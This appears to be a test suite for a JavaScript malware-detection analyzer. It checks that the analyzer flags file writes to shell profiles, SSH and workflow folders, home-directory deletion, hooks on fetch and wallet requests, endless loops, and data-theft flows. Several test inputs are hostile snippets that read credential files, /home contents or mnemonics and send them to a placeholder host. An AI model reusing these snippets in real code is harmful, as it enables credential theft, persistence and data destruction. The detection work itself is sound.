import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { labelNames } from './labels.ts';

function actions(code: string): string[] {
  return analyzeJs(code).fileActions.map(
    ({ operation, paths, live }) => `${operation} ${paths.join('|')}${live ? '' : ' (called)'}`,
  );
}

describe('file actions', () => {
  test.each([
    [`require('fs').writeFileSync('a.txt', x)`, 'write a.txt'],
    [
      `const os = require('os'); require('fs').appendFileSync(os.homedir() + '/.bashrc', x)`,
      'append ~/.bashrc',
    ],
    [
      `import { join } from 'path'; import fs from 'fs'; fs.promises.writeFile(join(process.env.HOME || process.env.USERPROFILE, '.ssh', 'x'), '')`,
      'write ~/.ssh/x',
    ],
    [
      `const fs = require('fs'); for (const f of ['.bashrc', '.zshrc']) fs.appendFileSync(require('path').join(require('os').homedir(), f), x)`,
      'append ~/.bashrc|~/.zshrc',
    ],
    [
      `const p = require('path'); require('fs').writeFileSync(p.resolve(__dirname, '..', '..', name, 'index.js'), x)`,
      'write ./../../$UNKNOWN/index.js',
    ],
    [
      'require("fs").copyFileSync(__filename, `${process.cwd()}/.github/workflows/x.yml`)',
      'copy $CWD/.github/workflows/x.yml',
    ],
    [`exports.f = () => require('fs').rmSync(require('os').homedir(), {})`, 'delete ~ (called)'],
    [`require('fs').unlink(__filename, () => {})`, 'delete ./$FILE'],
    [`require('fs').writeFileSync(x, y)`, 'write '],
    [`require('glob').globSync('**/*', { cwd: require('os').homedir() })`, 'list ~/**/*'],
    [`require('fast-glob')('/etc/*', { cwd: x })`, 'list /etc/*'],
  ])('%s', (code, expected) => {
    expect(actions(code)).toEqual([expected]);
  });
});

describe('a file that is opened', () => {
  test.each([
    [`require('fs').openSync('a', 'a')`, 'append'],
    [`require('fs').promises.open('a', 'w+')`, 'write'],
    [`require('fs').openSync('a', 'r')`, 'read'],
    [`require('fs').openSync('a')`, 'read'],
  ])('%s', (code, operation) => {
    expect(analyzeJs(code).fileActions.map((action) => action.operation)).toEqual([operation]);
  });
});

describe('patches', () => {
  test.each([
    [`window.fetch = wrap(window.fetch)`, 'fetch'],
    [
      `const o = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function () {}`,
      'XMLHttpRequest.prototype.open',
    ],
    [`window.ethereum.request = async () => {}`, 'ethereum.request'],
    [`Object.defineProperty(globalThis, 'fetch', { value: f })`, 'fetch'],
    [`require('module')._load = f`, 'module._load'],
    [
      `function wrap(o, k, by) { o[k] = by(o[k]); } wrap(window, 'fetch', f); wrap({}, 'request', f)`,
      'fetch',
    ],
    [
      `function wrap(one) { one.request = async () => {}; } const found = () => new Promise((resolve) => setTimeout(() => resolve(window.ethereum), 9)); found().then((one) => wrap(one))`,
      'ethereum.request',
    ],
    [
      `const wrap = (one) => { one.request = async () => {}; }; addEventListener('eip6963:announceProvider', (event) => wrap(event.detail.provider))`,
      'ethereum.request',
    ],
  ])('%s', (code, name) => {
    expect(analyzeJs(code).patches.map((patch) => patch.name)).toEqual([name]);
  });

  test('what a source sets of its own is no patch', () => {
    expect(analyzeJs('const fetch = {}; fetch.x = 1; exports.fetch = fetch; this.fetch = 2').patches).toEqual(
      [],
    );
  });
});

describe('endless loops', () => {
  test.each([
    ['while (true) console.log(1)', 1],
    ['for (;;) { x++ }', 1],
    ['for (let i = 666; i < Infinity; i++) console.log(i)', 1],
    ['while (!![]) { f(() => { return 1 }) }', 1],
    ['while (true) { if (x) break }', 0],
    ['async function f() { for (;;) await g() }', 0],
    ['while (1) { process.exit(0) }', 0],
    ['for (let i = 0; i < 9; i++) f()', 0],
  ])('%s', (code, count) => {
    expect(analyzeJs(code).endlessLoops).toHaveLength(count);
  });
});

describe('labels', () => {
  function carried(code: string): string[] {
    return analyzeJs(code).flow.flows.map((flow) => `${labelNames(flow.labels).join('+')} > ${flow.sink}`);
  }

  test('files that a folder lists', () => {
    const code = `const fs = require('fs');
function walk(d) { for (const f of fs.readdirSync(d)) fetch('https://a.example', { method: 'POST', body: fs.readFileSync(d + f) }); }
walk('/home');`;
    expect(carried(code)[0]).toContain('harvest');
  });

  test('a credential path in a list, read through a callback', () => {
    const code = `const fs = require('fs');
['.npmrc', '.aws/credentials'].forEach((f) => fetch('https://a.example/' + fs.readFileSync(home + '/' + f)));`;
    expect(carried(code)[0]).toContain('credential');
  });

  test('key words are lost in what signs', () => {
    expect(carried(`exports.f = (mnemonic) => fetch('https://a.example/' + mnemonic)`)[0]).toContain(
      'keyMaterial',
    );
    expect(
      carried(`exports.f = (privateKey) => fetch('https://a.example/' + jwt.sign(x, privateKey))`)[0],
    ).not.toContain('keyMaterial');
  });
});
